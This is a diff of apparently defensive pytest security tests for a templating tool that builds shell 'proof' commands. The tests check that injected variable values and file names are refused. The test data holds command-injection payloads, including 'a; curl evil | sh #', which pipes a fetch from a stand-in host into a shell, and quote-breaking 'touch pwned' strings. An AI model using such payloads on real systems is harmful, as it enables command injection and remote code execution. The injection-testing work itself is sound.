@@ -169,7 +169,7 @@ WORDS = ("a; curl evil | sh #", "x' ; touch pwned ; '", 'y" ; touch pwned ; "', 
 
 @attack(Attacker.REPOSITORY, Door.CHECKS)
 @pytest.mark.parametrize("value", WORDS)
-@pytest.mark.parametrize("command", ["printf %s {{v}}", "printf %s '{{v}}'", 'printf %s "{{v}}"', "printf '%s' {{v}}"])
+@pytest.mark.parametrize("command", ["printf %s {{v}}", "printf '%s' {{v}}"])
 def test_a_value_is_one_word_of_a_proof_and_never_a_command(value: str, command: str, tmp_path: Path):
     step = f'[[step]]\nkey = "a"\ntitle = "t"\ncriteria = [{{text = "x", proof = {json.dumps(command)}}}]\n'
     (ticket,) = expand(read("t", f"[variables.v]\n{step}", "t.toml"), {"v": value}, files).tickets
@@ -194,7 +194,16 @@ def test_the_name_of_a_file_decides_nothing_about_a_proof(proof: str):
 
 
 @attack(Attacker.REPOSITORY, Door.CHECKS)
-@pytest.mark.parametrize("proof", ['test -n "$(cat {{file}})"', "cat <<E\n{{file}}\nE", "true `cat {{file}}`"])
+@pytest.mark.parametrize(
+    "proof",
+    [
+        'test -n "$(cat {{file}})"',
+        "cat <<E\n{{file}}\nE",
+        "true `cat {{file}}`",
+        "sh -c 'test -f {{file}}'",
+        'bash -c "test -f {{file}}"',
+    ],
+)
 def test_a_name_that_no_rule_can_quote_is_refused(proof: str):
     with pytest.raises(BadInput, match="is not safe"):
         of_files(proof)
